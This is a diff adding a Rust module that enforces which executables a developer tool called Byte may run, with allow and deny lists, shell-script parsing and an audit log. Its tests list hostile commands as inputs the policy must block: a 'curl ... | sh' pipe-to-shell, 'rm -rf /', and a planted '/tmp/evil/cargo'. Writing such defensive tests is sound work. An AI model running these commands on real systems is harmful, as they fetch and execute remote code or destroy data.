@@ -0,0 +1,478 @@
+//! Command execution policy: which executables Byte may run, and where
+//!
+//! Every [`CommandBuilder`](crate::exec::CommandBuilder) is checked here
+//! before it spawns. The built-in list covers the toolchains Byte drives;
+//! `[policy]` in config.toml adds to it, denies executables outright and,
+//! per workspace, tightens or loosens the rules. With `check_shell`, shell
+//! tasks are parsed and every command they run is checked, not just `sh`.
+//!
+//! Decisions on shell commands (tasks and template hooks) and every denial
+//! are appended to `~/.byte/logs/audit.log`.
+
+pub mod shell;
+pub mod trust;
+
+use anyhow::{Result, bail};
+use chrono::Local;
+use std::io::Write;
+use std::path::{Path, PathBuf};
+use std::sync::{Arc, RwLock};
+
+use crate::config::types::{GlobalConfig, PolicyRules};
+
+/// Executables allowed without any configuration
+pub const BUILTIN_ALLOWED: &[&str] = &[
+    "cargo",
+    "rustc",
+    "rustfmt",
+    "clippy-driver",
+    "go",
+    "gofmt",
+    "bun",
+    "npm",
+    "node",
+    "npx",
+    "pnpm",
+    "yarn",
+    "deno",
+    "zig",
+    "python",
+    "python3",
+    "pip",
+    "pip3",
+    "uv",
+    "poetry",
+    "git",
+    "make",
+    "cmake",
+    "just",
+    "task",
+    "sh",
+    "bash",
+    "zsh",   // Shell tasks
+    "which", // For checking command existence
+    "vim",
+    "nano",
+    "vi",
+    "emacs", // Interactive editors
+];
+
+/// Shell builtins a checked shell task may use; they run no executable
+const SHELL_BUILTINS: &[&str] = &[
+    "cd", "echo", "printf", "export", "unset", "set", "shift", "test", "[", "true", "false", ":",
+    "exit", "return", "pwd", "read", "wait", "trap", "umask", "break", "continue",
+];
+
+/// Shells whose `-c` script is checked like a task's, and the only ones a
+/// task may name with `shell = "..."`
+pub const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash"];
+
+/// The policy in effect, installed from config.toml at startup
+static POLICY: RwLock<Option<Arc<Policy>>> = RwLock::new(None);
+
+/// Install the policy of `global`, replacing the current one
+pub fn install(global: &GlobalConfig) {
+    let mut policy = Policy::from_config(global);
+    policy.audit_log = dirs::home_dir().map(|home| home.join(".byte/logs/audit.log"));
+    if let Ok(mut current) = POLICY.write() {
+        *current = Some(Arc::new(policy));
+    }
+}
+
+/// The installed policy, or the built-in defaults before [`install`]
+pub fn current() -> Arc<Policy> {
+    POLICY
+        .read()
+        .ok()
+        .and_then(|policy| policy.clone())
+        .unwrap_or_else(|| Arc::new(Policy::default()))
+}
+
+/// Check `program args` against the installed policy, auditing the decision
+pub fn enforce(program: &str, args: &[String], dir: Option<&Path>) -> Result<()> {
+    let policy = current();
+    let result = policy.check(program, args, dir);
+    // Plain tool invocations (git status on every refresh) would drown the log
+    if result.is_err() || shell_script(program, args).is_some() {
+        let command = shell_script(program, args)
+            .map(str::to_string)
+            .unwrap_or_else(|| {
+                std::iter::once(program)
+                    .chain(args.iter().map(String::as_str))
+                    .collect::<Vec<_>>()
+                    .join(" ")
+            });
+        let decision = match &result {
+            Ok(()) => Decision::Allow,
+            Err(e) => Decision::Deny(e.to_string()),
+        };
+        policy.audit(&decision, dir, &command);
+    }
+    result
+}
+
+/// Trust the project's task files as they are now, and audit why
+pub fn trust(project_path: &Path, reason: &str) -> Result<()> {
+    trust::TrustStore::open()?.trust(project_path)?;
+    current().audit(&Decision::Trust, Some(project_path), reason);
+    Ok(())
+}
+
+/// Trust a project `byte init` generated from its own scaffolds; failing to
+/// only means a prompt later
+///
+/// Adopted projects and projects from templates bring task files Byte didn't
+/// write, so they go through the trust prompt like any other.
+pub fn trust_created(project_path: &Path) {
+    if let Err(e) = trust(project_path, "byte.toml written by byte") {
+        crate::log::warn(
+            "POLICY",
+            &format!("Could not trust {}: {}", project_path.display(), e),
+        );
+    }
+}
+
+/// Outcome of a policy check, as written to the audit log
+#[derive(Debug, Clone, PartialEq)]
+pub enum Decision {
+    Allow,
+    Deny(String),
+    /// The user trusted a project's byte.toml
+    Trust,
+}
+
+/// Effective rules for one directory
+#[derive(Debug, Clone, Default)]
+struct Rules {
+    allow: Vec<String>,
+    deny: Vec<String>,
+    check_shell: bool,
+    trusted: bool,
+    /// Directory relative programs are resolved in
+    dir: Option<PathBuf>,
+}
+
+#[derive(Debug, Default)]
+pub struct Policy {
+    global: PolicyRules,
+    /// Expanded workspace directory and its rules
+    workspaces: Vec<(PathBuf, PolicyRules)>,
+    audit_log: Option<PathBuf>,
+}
+
+impl Policy {
+    pub fn from_config(global: &GlobalConfig) -> Self {
+        let workspaces = global
+            .policy
+            .workspaces
+            .iter()
+            .filter_map(|(workspace, rules)| {
+                let path = crate::path::SafePath::from_user_input(workspace).ok()?;
+                let dir = path.canonical().unwrap_or(path.expanded()).to_path_buf();
+                Some((dir, rules.clone()))
+            })
+            .collect();
+        Self {
+            global: global.policy.rules.clone(),
+            workspaces,
+            audit_log: None,
+        }
+    }
+
+    /// Top-level rules, plus those of the workspace containing `dir`
+    fn rules(&self, dir: Option<&Path>) -> Rules {
+        let mut rules = Rules {
+            allow: self.global.allow.clone(),
+            deny: self.global.deny.clone(),
+            check_shell: self.global.check_shell.unwrap_or(false),
+            trusted: self.global.trusted.unwrap_or(false),
+            dir: None,
+        };
+
+        let dir = dir
+            .map(Path::to_path_buf)
+            .or_else(|| std::env::current_dir().ok())
+            .map(|dir| std::fs::canonicalize(&dir).unwrap_or(dir));
+        let Some(dir) = dir else { return rules };
+
+        // The most specific workspace wins for the overrides
+        let mut matching: Vec<&(PathBuf, PolicyRules)> = self
+            .workspaces
+            .iter()
+            .filter(|(workspace, _)| dir.starts_with(workspace))
+            .collect();
+        matching.sort_by_key(|(workspace, _)| workspace.components().count());
+        for (_, workspace) in matching {
+            rules.allow.extend(workspace.allow.iter().cloned());
+            rules.deny.extend(workspace.deny.iter().cloned());
+            rules.check_shell = workspace.check_shell.unwrap_or(rules.check_shell);
+            rules.trusted = workspace.trusted.unwrap_or(rules.trusted);
+        }
+        rules.dir = Some(dir);
+        rules
+    }
+
+    /// Tasks of projects under `dir` run without asking to trust byte.toml
+    pub fn trusts(&self, dir: &Path) -> bool {
+        self.rules(Some(dir)).trusted
+    }
+
+    /// Whether `program args` may run in `dir`; the error says why not
+    pub fn check(&self, program: &str, args: &[String], dir: Option<&Path>) -> Result<()> {
+        let rules = self.rules(dir);
+        match shell_script(program, args) {
+            Some(script) if rules.check_shell => {
+                check_executable(&rules, program)?;
+                check_script(&rules, script)
+            }
+            _ => check_executable(&rules, program),
+        }
+    }
+
+    /// Append a decision to the audit log (no-op for an uninstalled policy)
+    pub fn audit(&self, decision: &Decision, dir: Option<&Path>, command: &str) {
+        let Some(path) = &self.audit_log else { return };
+        if let Some(parent) = path.parent() {
+            let _ = std::fs::create_dir_all(parent);
+        }
+
+        let (verdict, reason) = match decision {
+            Decision::Allow => ("ALLOW", String::new()),
+            Decision::Deny(reason) => ("DENY", format!(" ({})", reason)),
+            Decision::Trust => ("TRUST", String::new()),
+        };
+        let dir = dir
+            .map(|d| d.display().to_string())
+            .unwrap_or_else(|| ".".to_string());
+        let line = format!(
+            "[{}] {} [{}] {}{}\n",
+            Local::now().format("%Y-%m-%d %H:%M:%S"),
+            verdict,
+            dir,
+            command.replace('\n', "\\n"),
+            reason
+        );
+        if let Ok(mut file) = std::fs::OpenOptions::new()
+            .create(true)
+            .append(true)
+            .open(path)
+        {
+            let _ = file.write_all(line.as_bytes());
+        }
+    }
+}
+
+/// The script of `sh -c script` (or `bash -ec script`, ...)
+fn shell_script<'a>(program: &str, args: &'a [String]) -> Option<&'a str> {
+    if !SHELLS.contains(&file_name(program)) {
+        return None;
+    }
+    let flags = args
+        .iter()
+        .position(|arg| arg.starts_with('-') && !arg.starts_with("--") && arg.contains('c'))?;
+    args.get(flags + 1).map(String::as_str)
+}
+
+/// Every command a shell script runs, including nested `sh -c` scripts and
+/// scripts run by a shell (`bash deploy.sh` is checked as `deploy.sh`)
+fn check_script(rules: &Rules, script: &str) -> Result<()> {
+    let commands = shell::simple_commands(script)
+        .map_err(|e| anyhow::anyhow!("can't check shell command: {}", e))?;
+    for words in commands {
+        let (program, args) = words.split_first().expect("simple commands have a program");
+        if SHELL_BUILTINS.contains(&program.as_str()) {
+            continue;
+        }
+        check_executable(rules, program)?;
+
+        if SHELLS.contains(&file_name(program)) {
+            if let Some(script) = shell_script(program, args) {
+                check_script(rules, script)?;
+            } else if let Some(file) = args.iter().find(|arg| !arg.starts_with('-')) {
+                check_executable(rules, file)?;
+            }
+        }
+    }
+    Ok(())
+}
+
+fn check_executable(rules: &Rules, program: &str) -> Result<()> {
+    if let Some(entry) = rules.deny.iter().find(|entry| denies(entry, program)) {
+        bail!("'{}' is denied by [policy] deny (\"{}\")", program, entry);
+    }
+    let allowed = BUILTIN_ALLOWED.iter().any(|entry| allows(entry, program))
+        || rules.allow.iter().any(|entry| allows(entry, program))
+        || is_python_interpreter(rules, program);
+    if !allowed {
+        bail!(
+            "'{}' is not allowed; add it to [policy] allow in config.toml",
+            program
+        );
+    }
+    Ok(())
+}
+
+/// Deny entries match by path, or by name wherever the program lives
+fn denies(entry: &str, program: &str) -> bool {
+    matches_path(entry, program) || (!entry.contains('/') && file_name(program) == entry)
+}
+
+/// Allow entries match a program run by path only when they name that path;
+/// a name only allows the program found on PATH, so a project can't ship its
+/// own `bin/cargo` past the list
+fn allows(entry: &str, program: &str) -> bool {
+    if program.contains('/') {
+        matches_path(entry, program)
+    } else {
+        entry == program
+    }
+}
+
+/// A program run by path that is, by its real path, the Python interpreter
+/// `python3` runs: a virtualenv's `bin/python` links to it, a file a project
+/// ships in its place doesn't
+fn is_python_interpreter(rules: &Rules, program: &str) -> bool {
+    if !program.contains('/') {
+        return false;
+    }
+    let path = match &rules.dir {
+        Some(dir) => dir.join(program),
+        None => PathBuf::from(program),
+    };
+    std::fs::canonicalize(path).is_ok_and(|real| {
+        crate::state::toolchain::python_interpreter().is_some_and(|python| python == real)
+    })
+}
+
+fn matches_path(entry: &str, program: &str) -> bool {
+    entry == program || (entry.contains('/') && shellexpand::tilde(entry) == program)
+}
+
+fn file_name(program: &str) -> &str {
+    program.rsplit('/').next().unwrap_or(program)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    impl Policy {
+        fn check_shell(&self, script: &str, dir: Option<&Path>) -> Result<()> {
+            self.check("sh", &["-c".to_string(), script.to_string()], dir)
+        }
+    }
+
+    fn policy(toml: &str) -> Policy {
+        let mut global = GlobalConfig::default();
+        global.policy = toml::from_str(toml).unwrap();
+        Policy::from_config(&global)
+    }
+
+    #[test]
+    fn test_allow_and_deny_lists() {
+        let policy = policy("allow = [\"docker\", \"./gradlew\"]\ndeny = [\"npx\"]\n");
+        let args = |args: &[&str]| args.iter().map(|a| a.to_string()).collect::<Vec<_>>();
+        assert!(policy.check("cargo", &args(&["build"]), None).is_ok());
+        assert!(policy.check("docker", &args(&["build", "."]), None).is_ok());
+        assert!(policy.check("./gradlew", &[], None).is_ok());
+        assert!(policy.check("npx", &args(&["vite"]), None).is_err());
+        assert!(policy.check("rm", &args(&["-rf", "/"]), None).is_err());
+        assert!(policy.check("/tmp/evil/cargo", &[], None).is_err());
+        assert!(policy.check("../cargo", &[], None).is_err());
+        assert!(policy.check("bin/cargo", &[], None).is_err());
+        assert!(
+            policy
+                .check("./scripts/git", &args(&["status"]), None)
+                .is_err()
+        );
+        assert!(policy.check("gradlew", &[], None).is_err());
+    }
+
+    #[test]
+    fn test_venv_python_allowed_by_real_path() {
+        let temp = tempfile::TempDir::new().unwrap();
+        let bin = temp.path().join(".venv/bin");
+        std::fs::create_dir_all(&bin).unwrap();
+        let args = ["-m".to_string(), "build".to_string()];
+
+        // A `python` the project ships itself isn't the interpreter
+        std::fs::write(bin.join("python"), "#!/bin/sh\n").unwrap();
+        assert!(
+            policy("")
+                .check(".venv/bin/python", &args, Some(temp.path()))
+                .is_err()
+        );
+        let allowed = policy("allow = [\".venv/bin/python\"]\n");
+        assert!(
+            allowed
+                .check(".venv/bin/python", &args, Some(temp.path()))
+                .is_ok()
+        );
+
+        if let Some(python) = crate::state::toolchain::python_interpreter() {
+            std::os::unix::fs::symlink(python, bin.join("python3")).unwrap();
+            assert!(
+                policy("")
+                    .check(".venv/bin/python3", &args, Some(temp.path()))
+                    .is_ok()
+            );
+        }
+    }
+
+    #[test]
+    fn test_shell_tasks_checked_when_enabled() {
+        let unchecked = policy("");
+        assert!(
+            unchecked
+                .check_shell("curl -s example.com | sh", None)
+                .is_ok()
+        );
+
+        let checked = policy("check_shell = true\ndeny = [\"curl\"]\n");
+        assert!(
+            checked
+                .check_shell("cd backend && cargo build 2>&1 | tee build.log", None)
+                .is_err()
+        );
+        assert!(
+            checked
+                .check_shell("cd backend && cargo build && echo done", None)
+                .is_ok()
+        );
+        assert!(
+            checked
+                .check_shell("cargo build && curl -s example.com | sh", None)
+                .is_err()
+        );
+        assert!(
+            checked
+                .check_shell("echo $(curl -s example.com)", None)
+                .is_err()
+        );
+        assert!(
+            checked
+                .check_shell("bash -c 'rm -rf target'", None)
+                .is_err()
+        );
+        assert!(checked.check_shell("sh ./deploy.sh", None).is_err());
+        assert!(checked.check_shell("$TOOL build", None).is_err());
+    }
+
+    #[test]
+    fn test_workspace_rules() {
+        let temp = tempfile::TempDir::new().unwrap();
+        let work = temp.path().join("work");
+        let project = work.join("shop");
+        std::fs::create_dir_all(&project).unwrap();
+
+        let policy = policy(&format!(
+            "check_shell = true\n\n[workspaces.\"{}\"]\nallow = [\"tee\"]\ntrusted = true\n",
+            work.display()
+        ));
+        let build = "cargo build | tee build.log";
+        assert!(policy.check_shell(build, Some(&project)).is_ok());
+        assert!(policy.check_shell(build, Some(temp.path())).is_err());
+        assert!(policy.trusts(&project));
+        assert!(!policy.trusts(temp.path()));
+    }
+}